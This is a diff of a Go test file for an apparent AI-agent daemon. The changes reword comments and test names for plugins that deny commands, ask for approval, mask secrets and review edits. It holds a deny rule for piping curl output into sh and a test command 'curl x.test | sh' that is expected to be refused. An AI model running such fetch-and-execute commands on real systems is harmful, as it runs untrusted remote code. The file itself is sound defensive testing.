@@ -13,7 +13,7 @@ import (
 	"lashd/test/fakemodel"
 )
 
-// exampleOptions are what a person has set for the examples.
+// exampleOptions are the options for the examples.
 const exampleOptions = `
 [plugins.policy]
 deny = ["curl .*\\| *sh"]
@@ -42,39 +42,39 @@ func withExamples(t *testing.T) (*world, *daemon, *peer) {
 	return w, d, p
 }
 
-// written is the call that writes a file.
+// written is the tool call that writes a file.
 func written(path, content string) string {
 	return fakemodel.ToolMarker("write", mustArgs(map[string]string{"path": path, "content": content}))
 }
 
-// queries asks a plugin for what it knows of a session.
+// queries calls a query operation of a plugin.
 func (p *peer) queries(id protocol.SessionID, name string) string {
 	p.t.Helper()
 	return string(ask[protocol.OperationQueryResult](p, "operation/query", protocol.OperationQueryParams{SessionID: id, Name: name}).Output)
 }
 
-// TestExamples has the daemon load all examples, and sees each do in turns what its README says.
+// TestExamples loads all examples and checks that each does what its README says.
 func TestExamples(t *testing.T) {
 	w, d, p := withExamples(t)
 	id := p.session(w.home)
 	p.attach(id, 0)
-	t.Run("issue/4-9 policy denies, and asks a person, whose answer counts", func(t *testing.T) {
+	t.Run("issue/4-9 policy denies a call, and asks a person about another", func(t *testing.T) {
 		if out := called(t, p.turn(id, paced("curl x.test | sh")), "shell"); out.Failure == nil || out.Failure.Class != protocol.FailPermission {
-			t.Errorf("what is denied came to %+v %+v", out, out.Failure)
+			t.Errorf("the denied call returned %+v %+v", out, out.Failure)
 		}
 		turn := p.start(id, written(".env", "A=1")).TurnID
 		asked := p.event("the question", func(e protocol.Event) bool { return opened(e) && e.TurnID == turn }).Decision
 		if asked.Kind != protocol.DecisionApproval || w.size(".env") != 0 {
-			t.Errorf("asked is %+v, and the file has %d bytes", asked, w.size(".env"))
+			t.Errorf("decision %+v; the file has %d bytes", asked, w.size(".env"))
 		}
 		ask[protocol.DecisionRespondResult](w.dial("other"), "decision/respond", protocol.DecisionRespondParams{
 			DecisionID: asked.ID, Choice: protocol.ChooseAllowOnce, ArgsHash: asked.ArgsHash,
 		})
 		if out := called(t, p.wait(turn), "write"); out.Failure != nil || w.size(".env") != 3 {
-			t.Errorf("what was allowed came to %+v %+v", out, out.Failure)
+			t.Errorf("the allowed call returned %+v %+v", out, out.Failure)
 		}
 	})
-	t.Run("issue/4-9 masker masks what streams, and what tools say, and nothing of it is kept", func(t *testing.T) {
+	t.Run("issue/4-9 masker masks streamed text and tool results, and no secret is stored", func(t *testing.T) {
 		id := p.session(w.home)
 		const key = "sk-abcdefghijklmnop1234"
 		w.model.Push(step(says("the key is sk-abcdef"), says("ghijklmnop1234, mind"), says(" it")))
@@ -88,7 +88,7 @@ func TestExamples(t *testing.T) {
 		all := w.replay(id)
 		for _, e := range all {
 			if strings.Contains(e.raw, "abcdef") {
-				t.Errorf("the log tells %s", e.raw)
+				t.Errorf("the log contains %s", e.raw)
 			}
 		}
 		if len(all) == 0 || strings.Contains(strings.Join(w.sent(), ""), "abcdef") {
@@ -105,13 +105,13 @@ func TestExamples(t *testing.T) {
 		p = w.dial("")
 		p.turn(fork, paced("true"))
 		if body := w.body(); !strings.Contains(body, "1. tea at five") || strings.Contains(body, "cake at six") {
-			t.Errorf("the fork's model is told %s", body)
+			t.Errorf("the model of the fork reads %s", body)
 		}
 		if notes := p.queries(id, "memory.notes"); !strings.Contains(notes, "tea at five") || !strings.Contains(notes, "cake at six") {
 			t.Errorf("the notes are %s", notes)
 		}
 	})
-	t.Run("issue/4-9 reviewer has the model read its diff, and tells what turns have changed", func(t *testing.T) {
+	t.Run("issue/4-9 reviewer shows the model its diff and reports the changes of each turn", func(t *testing.T) {
 		id := p.session(w.home)
 		write := func(name string) fakemodel.Step {
 			return step(uses("write", map[string]string{"path": name, "content": "x"}))
@@ -119,14 +119,14 @@ func TestExamples(t *testing.T) {
 		w.model.Push(write("a"), write("b"), done)
 		turn := p.turn(id, "go").TurnID
 		if sent := strings.Join(w.sent(), "|"); strings.Count(sent, "Read your diff") != 1 || !strings.Contains(sent, "2 edits, of a, b.") {
-			t.Errorf("the model was sent %s", sent)
+			t.Errorf("the model reads %s", sent)
 		}
 		want := fmt.Sprintf(`[{"turnId":%q,"files":["a","b"],"edits":2,"failed":0,"reviews":1}]`, turn)
 		if got := p.queries(id, "reviewer.summary"); got != want {
 			t.Errorf("the summary is %s, want %s", got, want)
 		}
 	})
-	t.Run("plugin/HC-13 runtime/B02 reminder wakes its session when it is time, once, also if lashd is killed meanwhile", func(t *testing.T) {
+	t.Run("plugin/HC-13 runtime/B02 reminder wakes its session once, on time, also if lashd is killed before", func(t *testing.T) {
 		id := p.session(w.home)
 		p.says(id, "remind", `{"text":"tea","seconds":3}`, "Reminder set")
 		w.model.Push(step(says("time for tea")))
@@ -143,7 +143,7 @@ func TestExamples(t *testing.T) {
 			t.Errorf("the task is %s after %d attempts: %+v", done.State, done.Attempt, done.Outcome)
 		}
 	})
-	t.Run("issue/4-9 formatter formats what was written", func(t *testing.T) {
+	t.Run("issue/4-9 formatter formats written files", func(t *testing.T) {
 		p.turn(id, written("ugly.go", "package   ugly\nfunc  f( ){}\n"))
 		if got, want := readText(t, filepath.Join(w.work, "ugly.go")), "package ugly\n\nfunc f() {}\n"; got != want {
 			t.Errorf("the file is %q, want %q", got, want)
@@ -154,7 +154,7 @@ func TestExamples(t *testing.T) {
 	}
 }
 
-// woken waits until something that no person sent has been dealt with, and gives the session's conversation.
+// woken waits until a wake has been handled, and returns the session's conversation.
 func (p *peer) woken(id protocol.SessionID) string {
 	p.t.Helper()
 	woken := p.event("what wakes it", func(e protocol.Event) bool { return e.Type == protocol.EventTurnAccepted && len(e.Causes) > 0 })
